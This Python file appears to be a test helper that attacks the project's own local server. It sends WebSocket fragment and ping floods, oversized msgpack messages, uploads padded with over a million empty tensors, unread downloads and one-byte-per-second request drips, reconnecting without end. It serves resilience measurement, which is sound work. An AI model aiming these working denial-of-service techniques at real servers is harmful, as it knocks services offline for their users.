# SPDX-License-Identifier: Apache-2.0
"""Attackers for realtime_load.py and served_attacks.py: sockets that reconnect whenever the server
closes them.

The process is killed when the measurement ends. The attackers connect from a different address than
the other clients. Three attacks work on any server: `fragments` (a million one-byte fragments),
`pings` (400,000 pings) and `values` (messages that contain 260,000 msgpack values). The other three
attacks need a complete server and the `path` of a live session's snapshot: `tensors` (uploads that
name 1.12 million or 40,000 empty tensors), `downloads` (clients that request the snapshot and do
not read it) and `drips` (request bodies sent at one byte per second). `program` is not an attack:
it only uses CPU time, as another program on the machine might.
"""

import asyncio
import base64
import contextlib
import json
import os
import socket
import sys
from collections.abc import Awaitable, Callable
from functools import partial
from typing import Any

import msgspec
from realtime_clients import GENERATE_PATH

from vllm_omni.entrypoints.loopback import open_loopback

_HOST, _OWN_ADDRESS = "127.0.0.1", "127.0.0.2"
_MASK = bytes(4)
"""Mask for client frames. A mask of zeros leaves the payload as it is."""
_AGAIN_S = 0.25
_DRIP_S = 1.0
_SMALL_BUFFER = 4096
"""Receive buffer size in bytes for a client that never reads. The buffer is small, so most of the
response remains on the server.
"""
_DRIPPED = ("/v1/sessions", "/v1/videos", "/v1/completions")

Connection = tuple[asyncio.StreamReader, asyncio.StreamWriter]


def frame(first_byte: int, payload: bytes) -> bytes:
    """Return one masked WebSocket frame. `first_byte` contains the FIN bit and the opcode."""
    size = len(payload)
    if size < 126:
        length = bytes([0x80 | size])
    elif size < 1 << 16:
        length = b"\xfe" + size.to_bytes(2)
    else:
        length = b"\xff" + size.to_bytes(8)
    return bytes([first_byte]) + length + _MASK + payload


def flood(kind: str) -> bytes:
    """Return the bytes that each attacking socket sends in one write."""
    if kind == "fragments":
        return frame(0x02, b"") + frame(0x00, b"x") * 1_000_000
    if kind == "pings":
        return frame(0x89, b"") * 400_000
    assert kind == "values"
    return frame(0x82, msgspec.msgpack.encode({"type": "init", "prompt": [[0.0] * 1000] * 260}))


def with_empty_tensors(snapshot: bytes, count: int) -> bytes:
    """Return the snapshot with `count` additional empty tensors in its table."""
    head = 8 + int.from_bytes(snapshot[:8], "little")
    table = json.loads(snapshot[8:head])
    table |= {
        f"rank0.{n:x}": {"dtype": "U8", "shape": [0], "data_offsets": [0, 0]} for n in range(count)
    }
    text = json.dumps(table).encode()
    return len(text).to_bytes(8, "little") + text + snapshot[head:]


async def connected(port: int, receive_buffer: int | None = None) -> socket.socket:
    raw = socket.socket()
    if receive_buffer is not None:
        raw.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive_buffer)
    raw.bind((_OWN_ADDRESS, 0))
    raw.setblocking(False)
    await asyncio.get_running_loop().sock_connect(raw, (_HOST, port))
    return raw


async def opened(port: int) -> Connection:
    return await asyncio.open_connection(sock=await connected(port))


def head(method: str, path: str, *lines: str) -> bytes:
    return "\r\n".join([f"{method} {path} HTTP/1.1", f"Host: {_HOST}", *lines, "", ""]).encode()


async def until_closed(connection: Connection) -> None:
    reader, writer = connection
    while await reader.read(65536):
        pass
    writer.close()


async def flood_socket(port: int, data: bytes) -> None:
    key = base64.b64encode(os.urandom(16)).decode()
    upgrade = (
        "Upgrade: websocket",
        "Connection: Upgrade",
        "Sec-WebSocket-Version: 13",
        f"Sec-WebSocket-Key: {key}",
    )
    reader, writer = await opened(port)
    writer.write(head("GET", GENERATE_PATH, *upgrade))
    await reader.readuntil(b"\r\n\r\n")
    writer.write(data)
    await until_closed((reader, writer))


async def upload(port: int, body: bytes) -> None:
    connection = await opened(port)
    connection[1].write(
        head("POST", "/v1/sessions", f"Content-Length: {len(body)}", "Connection: close")
    )
    connection[1].write(body)
    await until_closed(connection)


async def download_unread(port: int, path: str) -> None:
    loop = asyncio.get_running_loop()
    with await connected(port, _SMALL_BUFFER) as raw:
        await loop.sock_sendall(raw, head("GET", path))
        while True:  # until a write shows that the server has closed the connection
            await asyncio.sleep(_DRIP_S)
            await loop.sock_sendall(raw, b" ")


async def compute() -> None:
    """Use CPU time until this process is killed."""
    while True:
        pass


async def drip(port: int, path: str) -> None:
    reader, writer = await opened(port)
    writer.write(
        head(
            "POST",
            path,
            "Content-Type: application/json",
            "Content-Length: 1000",
            "Connection: close",
        )
    )
    closed = asyncio.ensure_future(until_closed((reader, writer)))
    while not closed.done():
        writer.write(b"\0")
        await asyncio.wait([closed], timeout=_DRIP_S)
    closed.result()


def attackers(options: dict[str, Any]) -> list[Callable[[], Awaitable[None]]]:
    """Return one function per socket. Each function runs the attack once. `options` contains
    `kind`, `port` and `sockets`, and also `path` for attacks that need a snapshot.
    """
    kind, port, count = options["kind"], options["port"], options["sockets"]
    if kind == "tensors":
        with open_loopback(f"http://{_HOST}:{port}{options['path']}", timeout_s=60) as response:
            snapshot = response.read()
        large, small = (with_empty_tensors(snapshot, number) for number in (1_120_000, 40_000))
        return [partial(upload, port, large if n % 2 else small) for n in range(count)]
    if kind == "downloads":
        return [partial(download_unread, port, options["path"])] * count
    if kind == "program":
        return [compute]
    if kind == "drips":
        return [partial(drip, port, _DRIPPED[n % len(_DRIPPED)]) for n in range(count)]
    return [partial(flood_socket, port, flood(kind))] * count


async def again_and_again(attack: Callable[[], Awaitable[None]]) -> None:
    while True:
        with contextlib.suppress(OSError, asyncio.IncompleteReadError):
            await attack()
        await asyncio.sleep(_AGAIN_S)


async def run(options: dict[str, Any]) -> None:
    attacks = attackers(options)
    print("open", flush=True)
    await asyncio.gather(*map(again_and_again, attacks))


if __name__ == "__main__":
    asyncio.run(run(json.loads(sys.argv[1])))
